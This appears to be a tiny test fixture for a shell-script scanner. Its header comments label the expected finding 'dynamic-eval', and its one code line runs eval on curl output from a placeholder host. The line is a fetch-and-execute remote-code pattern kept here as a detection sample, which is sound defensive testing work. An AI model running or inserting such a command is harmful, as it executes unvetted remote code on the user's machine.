# expect: dynamic-eval
# source: DESIGN.md section 2: dynamic-eval
# technique: eval "$(curl ...)"
eval "$(curl -fsSL https://x.example.net/env)"
